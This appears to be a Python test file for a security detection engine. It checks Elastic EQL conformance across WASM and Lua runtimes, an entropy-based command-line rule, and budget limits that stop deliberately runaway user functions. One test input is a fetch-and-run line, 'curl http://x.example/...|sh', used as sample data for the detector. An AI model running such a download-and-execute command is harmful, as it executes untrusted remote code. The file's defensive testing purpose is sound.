"""The engine with wasm and lua predicates: Elastic's corpus on each, user functions, budgets.

- Parity: every conformance query gives the results Elasticsearch expects on every runtime.
- User functions from modules beside the policy run under the budget; a runaway one (an infinite
  loop, a deep recursion, a memory bomb) is stopped, its event gets the rule's fail mode, the
  engine keeps going and the overflow is reported as a budget event (which the agent audits).
"""

from __future__ import annotations

import json
import math
import shutil
from collections import Counter
from pathlib import Path

import pytest

from guard.cli import main
from guard.policy.conformance import engine_evaluator, run_corpus
from guard.policy.corpus import default_corpus
from guard.policy.engine import OVERFLOW_COUNTERS, Engine
from guard.policy.loader import load_policy
from guard.policy.predicates.abi import Budget
from tests.fields import dig

RUNTIMES = ("wasm", "lua")

#: the example entropy modules shipped with the bundled policies
EXAMPLES = Path(__file__).resolve().parents[4] / "policies" / "modules"

# the runaway cases are chosen by the argument, so one batch mixes them with good events
RISKY_LUA = """
local function down(n) return 1 + down(n + 1) end

function risky(s)
  if s == "loop" then while true do end end
  if s == "deep" then return down(0) end
  if s == "bomb" then local t, x = {}, "x"; while true do x = x .. x; t[#t + 1] = x end end
  if s == "fail" then error("user error") end
  return #s
end
"""

# the same in WAT, chosen by the first byte: l(oop), d(eep), b(omb), f(ail)
RISKY_WAT = """
(module
  (import "env" "memory" (memory 1))
  (func $down (param $d i64) (result i64) (i64.add (i64.const 1) (call $down (i64.add (local.get $d) (i64.const 1)))))
  (func (export "risky") (param $p i32) (param $n i32) (result i64)
    (local $c i32)
    (if (i32.eqz (local.get $n)) (then (return (i64.const 0))))
    (local.set $c (i32.load8_u (local.get $p)))
    (if (i32.eq (local.get $c) (i32.const 108)) (then (loop $l (br $l))))
    (if (i32.eq (local.get $c) (i32.const 100)) (then (return (call $down (i64.const 0)))))
    (if (i32.eq (local.get $c) (i32.const 98))
      (then (loop $g (drop (memory.grow (i32.const 16)))
                     (i32.store (i32.sub (i32.mul (memory.size) (i32.const 65536)) (i32.const 4)) (i32.const 1))
                     (br $g))))
    (if (i32.eq (local.get $c) (i32.const 102)) (then unreachable))
    (i64.extend_i32_u (local.get $n)))
)
"""

RULES = """
[[rule]]
id = "high_entropy"
name = "high-entropy command line"
severity = "medium"
action = "alert"
query = 'process where {lang}:entropy(process.command_line) > 4.5'

[[rule]]
id = "risky_open"
name = "risky, failing open"
severity = "low"
action = "alert"
fail_mode = "open"
query = 'process where {lang}:risky(process.name) > 2'

[[rule]]
id = "risky_closed"
name = "risky, failing closed"
severity = "low"
action = "alert"
fail_mode = "closed"
query = 'process where {lang}:risky(process.name) > 2'
"""


def _policy(tmp_path: Path, lang: str) -> Path:
    (tmp_path / "rules.guard").write_text(RULES.replace("{lang}", lang))
    suffix = "lua" if lang == "lua" else "wat"
    shutil.copy(EXAMPLES / f"entropy.{suffix}", tmp_path)
    (tmp_path / f"risky.{suffix}").write_text(RISKY_LUA if lang == "lua" else RISKY_WAT)
    return tmp_path


def _ev(i: int, name: str, command_line: str) -> dict[str, object]:
    return {
        "@timestamp": 1000 + i, "event": {"category": "process", "sequence": i},
        "process": {"name": name, "command_line": command_line},
    }  # fmt: skip


def _entropy(s: str) -> float:
    data = s.encode()
    return -sum(c / len(data) * math.log2(c / len(data)) for c in Counter(data).values()) if data else 0.0


@pytest.mark.parametrize("runtime", ["python", *RUNTIMES])
def test_every_conformance_query_passes_on_every_runtime(runtime: str) -> None:
    report = run_corpus(default_corpus(), engine_evaluator(runtime=runtime))
    assert report.failed == 0, report.render_text()
    assert report.passed == 264


def test_guardctl_eql_conformance_runtime(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["eql", "conformance", "--runtime", "lua"]) == 0
    assert "elastic-eql: 264 passed, 0 failed" in capsys.readouterr().out


@pytest.mark.parametrize("lang", RUNTIMES)
def test_a_user_function_decides_a_rule(tmp_path: Path, lang: str) -> None:
    policy = load_policy(_policy(tmp_path, lang))
    assert {r.runtime for r in policy.rules} == {lang}
    engine = Engine([policy.rule("high_entropy")], modules=policy.modules)
    lines = [
        "ls -la",
        "aaaaaaaaaaaaaaaa",
        "curl http://x.example/$(echo aGVsbG8gd29ybGQ= | base64 -d)|sh",
        "",
    ]
    alerts = engine.run([_ev(i, "sh", s) for i, s in enumerate(lines)])
    want = [s for s in lines if _entropy(s) > 4.5]
    assert want, "the data must hold a high-entropy line"
    assert [dig(a.events[0], "process", "command_line") for a in alerts] == want


@pytest.mark.parametrize("lang", RUNTIMES)
@pytest.mark.parametrize("runaway", ["loop", "deep", "bomb", "fail"])
def test_a_runaway_user_function_is_stopped_and_reported(tmp_path: Path, lang: str, runaway: str) -> None:
    policy = load_policy(_policy(tmp_path, lang))
    rules = [policy.rule("risky_open"), policy.rule("risky_closed")]
    budget = Budget(per_event=50_000, base=10_000, memory_bytes=8 * 1024 * 1024)
    engine = Engine(rules, modules=policy.modules, runtime_budget=budget)
    batch = [_ev(1, "cron", "x"), _ev(2, runaway, "x"), _ev(3, "ab", "x"), _ev(4, "sshd", "x")]
    alerts = engine.process(batch)
    by_rule = {(a.rule.id, dig(a.events[0], "process", "name")) for a in alerts}
    # good events are decided by the function; the runaway gets each rule's fail mode
    assert by_rule == {
        ("risky_open", "cron"), ("risky_open", "sshd"),
        ("risky_closed", "cron"), ("risky_closed", "sshd"), ("risky_closed", runaway),
    }  # fmt: skip
    events = engine.budget_events()
    kinds = {(e.rule_id, e.kind, e.count) for e in events}
    assert len(kinds) == 2
    assert all(k.startswith("trap_") and k in OVERFLOW_COUNTERS for _, k, _ in kinds)
    assert {r for r, _, _ in kinds} == {"risky_open", "risky_closed"}
    assert all(count == 1 for _, _, count in kinds)
    if runaway in ("loop", "fail"):
        assert {k for _, k, _ in kinds} == {"trap_fuel" if runaway == "loop" else "trap_error"}
    # the engine keeps running, with the same predicates
    later = engine.process([_ev(5, "zsh", "x"), _ev(6, "id", "x")])
    assert {(a.rule.id, dig(a.events[0], "process", "name")) for a in later} == {
        ("risky_open", "zsh"),
        ("risky_closed", "zsh"),
    }
    assert engine.budget_events() == []


def test_bench_runtimes_measures_every_runtime_on_the_same_batch(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["bench", "runtimes", "--batch", "256", "--repeats", "1", "--json"]) == 0
    rows = json.loads(capsys.readouterr().out)["rows"]
    assert {(r["condition"], r["runtime"]) for r in rows} >= {
        ("typical rule", "python"), ("typical rule", "wasm"), ("typical rule", "lua"),
        ("user function", "wasm"), ("user function", "lua"),
    }  # fmt: skip
    assert all(r["agree"] and r["us_per_event"] > 0 for r in rows)
    by = {(r["condition"], r["runtime"]): r["matched"] for r in rows}
    assert by[("user function", "wasm")] == by[("user function", "lua")]  # one entropy, two languages
